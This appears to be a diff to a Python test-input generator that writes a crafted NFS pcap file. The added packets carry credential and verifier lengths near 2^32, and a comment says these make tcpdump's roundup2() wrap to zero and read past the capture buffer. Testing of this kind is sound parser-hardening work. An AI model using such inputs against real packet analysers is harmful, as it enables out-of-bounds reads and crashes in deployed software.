@@ -79,6 +79,17 @@ pair(3,5,fh3,w(0)+post()+w(0xfffffffd))
 pair(2,5,fh2,w(0)+w(0xffffffff))
 pair(3,7,fh3+h(0)+w(17,0xaaaaaaaa,17)+opaque(b'y'*17),w(0)+wcc()+w(17,0x80000000)+h(1))
 pair(3,7,fh3+h(0)+w(17,7,17)+opaque(b'y'*17),w(0)+wcc()+w(17,3)+h(1))
+# credentials and verifiers of sizes near 2^32: tcpdump's roundup2() wraps to 0 for its
+# checks, then its pointer steps over the whole size, past the capture (a read's cut)
+def raw_call(v, proc, auth, args): x[0]+=1; return ip(udp(700,2049,w(x[0],0,2,100003,v,proc)+auth+args),17,C,S)
+pk.append(raw_call(3,17,w(0,0xffffffff)+w(0,0),fh3+h(0)+h(0)+w(512,1024)))
+pk.append(raw_call(3,17,cred+w(0,0xfffffffd),fh3+h(0)+h(0)+w(512,1024)))
+pk.append(raw_call(2,4,w(0,0xfffffffe)+w(0,0),fh2))
+# cut inside the credentials: in the size word (a read) and in the body (a check)
+cuts=[]
+full=raw_call(3,1,cred+verf,fh3)
+for n in (20+8+28+2, 20+8+28+6, 20+8+28+20, 20+8+60+2):
+    cuts.append((full[:n], len(full)))
 with open('nfs_crafted.pcap','wb') as f:
     f.write(struct.pack('<IHHiIII',0xa1b2c3d4,2,4,0,0,65535,101))
     for i,p in enumerate(pk):
@@ -87,3 +98,5 @@ with open('nfs_crafted.pcap','wb') as f:
     for i,p in enumerate(pk[:20]):
         cl=min(len(p), 28+40+random.randint(0,100))
         f.write(struct.pack('<IIII',100+i,0,cl,len(p))); f.write(p[:cl])
+    for i,(p,wire) in enumerate(cuts):
+        f.write(struct.pack('<IIII',200+i,0,len(p),wire)); f.write(p)
